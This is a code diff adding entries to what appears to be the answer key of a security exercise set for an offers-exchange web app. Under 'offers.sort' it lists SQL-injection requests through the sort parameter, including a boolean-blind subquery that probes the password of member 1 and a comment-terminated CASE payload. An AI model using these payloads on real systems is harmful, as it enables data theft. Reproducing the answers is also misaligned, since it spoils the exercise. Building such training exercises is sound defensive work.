@@ -127,6 +127,14 @@ export const exchangeSolutions = {
     'all states': get('/api/offers?state=all'),
     'with a search': get('/api/offers?q=velo&state=draft'),
   },
+  'offers.sort': {
+    'another column': get('/offers?sort=owner+DESC'),
+    'a question to another table': get(
+      `/offers?sort=${encodeURIComponent("(CASE WHEN (SELECT password FROM members WHERE id=1) > 'm' THEN hours ELSE at END)")}`,
+    ),
+    'a case, with a comment': get('/offers?kind=help&sort=CASE+WHEN+1=1+THEN+id+END--+'),
+    'by the API': get('/api/offers?sort=random()'),
+  },
   'offers.owner': {
     'to a neighbour': giveAway(2),
     'to the moderator': giveAway(1),
